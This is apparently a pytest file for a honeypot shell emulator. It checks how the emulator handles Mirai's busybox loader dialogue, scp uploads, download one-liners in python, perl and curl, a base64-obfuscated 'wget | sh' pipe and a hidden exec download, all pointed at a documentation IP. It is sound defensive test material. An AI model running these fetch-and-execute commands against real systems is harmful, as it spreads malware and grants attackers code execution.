# ruff: noqa: E501 - command lines are longer than a line
"""What loaders do with programs: Mirai's dialogue on a device, scp uploads, one-liners, archives."""

from __future__ import annotations

import base64

import pytest
from tests.machine.programs.support import Box, reply

from urltrap.model.event import ForwardAsked, Uploaded


def test_mirai_reaches_its_download_on_a_device() -> None:
    box = Box("busybox-mips", network=lambda request: reply(request, b"\x7fELFx"))
    assert box.run("/bin/busybox ECCHI").err == b"ECCHI: applet not found\n"
    assert box.run("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI").out.count(b"\n") > 3
    writing = "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/tmp' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon"
    assert box.run(writing).out == b"kami/tmp\n"
    box.run("cd /tmp; /bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper")
    head = box.run("/bin/busybox cat /bin/echo").out
    assert head[:6] == b"\x7fELF\x01\x02"
    result = box.run(
        "cd /tmp; /bin/busybox wget http://192.0.2.9:80/bins/mirai.mips -O - > dvrHelper; /bin/busybox cat dvrHelper"
    )
    assert result.out == b"\x7fELFx"
    assert [request.client for request in result.requests] == ["busybox-wget"]


@pytest.mark.parametrize("line", ["dd bs=52 count=1 if=/bin/ls || cat /bin/ls", "head -c 52 /bin/ls"])
def test_a_header_can_be_read(line: str) -> None:
    result = Box().run(line)
    assert (len(result.out), result.out[:4]) == (52, b"\x7fELF")


def test_scp_receives_files_and_tells_of_them() -> None:
    box = Box()
    result = box.run("scp -t /tmp/up", b"C0755 5 bot\nhello\0")
    assert (result.status, result.out) == (0, b"\0\0\0")
    assert box.read("/tmp/up") == b"hello"
    fact = result.facts(Uploaded)[0]
    assert (fact["via"], fact["path"], fact["size"], fact["complete"]) == ("scp", b"/tmp/up", 5, True)


def test_scp_receives_directories_and_refuses_ways_out() -> None:
    box = Box()
    box.run("mkdir /tmp/in")
    assert box.run("scp -r -t /tmp/in", b"D0755 0 d\nC0644 1 f\nx\0E\n").status == 0
    assert box.read("/tmp/in/d/f") == b"x"
    assert b"unexpected filename" in box.run("scp -t /tmp/in", b"C0644 1 ../../etc/x\nx\0").out


def test_scp_sends_files() -> None:
    box = Box()
    box.put("/tmp/out", b"data")
    assert box.run("scp -f /tmp/out", b"\0\0\0").out == b"C0644 4 out\ndata\0"


@pytest.mark.parametrize(
    "line",
    [
        "python3 -c \"import urllib.request as u; u.urlretrieve('http://192.0.2.9/x', '/tmp/got')\"",
        "perl -MHTTP::Tiny -e 'HTTP::Tiny->new->mirror(\"http://192.0.2.9/x\", \"/tmp/got\");'",
        "python3 -c \"import urllib.request as u; open('/tmp/got','wb').write(u.urlopen('http://192.0.2.9/x').read())\"",
        "curl -s http://192.0.2.9/x | tee /tmp/got",
        "echo '" + base64.b64encode(b"wget -q -O /tmp/got http://192.0.2.9/x").decode() + "' | base64 -d | sh",
    ],
)  # fmt: skip
def test_a_one_liner_downloads(line: str) -> None:
    box = Box(network=lambda request: reply(request, b"payload"))
    result = box.run(line)
    assert [request.url for request in result.requests] == [b"http://192.0.2.9/x"]
    assert box.read("/tmp/got") == b"payload"


def test_a_url_hidden_in_base64_of_an_interpreter_is_found() -> None:
    hidden = base64.b64encode(b"import urllib.request;urllib.request.urlopen('http://192.0.2.9/z')").decode()
    result = Box().run(f"python3 -c \"import base64;exec(base64.b64decode('{hidden}'))\"")
    assert [request.url for request in result.requests] == [b"http://192.0.2.9/z"]


def test_clients_are_told_of_and_never_connect() -> None:
    result = Box().run("ssh -p 2222 root@192.0.2.9 id; bash -c 'true'")
    assert [(fact["host"], fact["port"]) for fact in result.facts(ForwardAsked)] == [(b"192.0.2.9", 2222)]
    assert b"ssh: connect to host 192.0.2.9 port 2222: No route to host" in result.err


def test_an_archive_from_the_network_unpacks_and_runs() -> None:
    box = Box()
    box.run(
        "cd /tmp; mkdir kit; printf '#!/bin/sh\\necho ran\\n' > kit/go; chmod +x kit/go; tar czf kit.tgz kit; rm -rf kit"
    )
    assert box.run("cd /tmp; tar xzf kit.tgz && cd kit && ./go").out == b"ran\n"


def test_an_editor_changes_a_file_on_a_terminal() -> None:
    box = Box()
    box.run("nano /tmp/note", b"hello\x18y\r", terminal=True)
    assert box.read("/tmp/note") == b"hello\n"
    assert b"Vim: Warning" in box.run("vi /tmp/note").err or b"not found" in box.run("vi /tmp/note").err
